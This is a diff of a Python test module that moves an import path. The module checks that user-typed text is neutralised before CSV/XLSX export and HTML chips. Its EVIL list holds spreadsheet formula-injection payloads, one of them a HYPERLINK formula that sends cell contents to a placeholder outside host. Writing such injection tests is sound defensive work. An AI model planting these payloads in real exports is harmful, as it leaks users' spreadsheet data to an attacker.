@@ -1,5 +1,5 @@
 """Text a user typed never becomes a live formula in any export, nor markup on a page: every CSV and XLSX writer
-and every chip pass the one place that neutralises or escapes (sq_layout.export.cells, layers.panel.chip_html)."""
+and every chip pass the one place that neutralises or escapes (sq_layout.cells, layers.panel.chip_html)."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ from dataclasses import replace
 import openpyxl
 import pytest
 
-from sq_layout.export.cells import FORMULA_START
+from sq_layout.cells import FORMULA_START
 from sq_layout.plan.dataset import Dataset, bundled
 
 EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
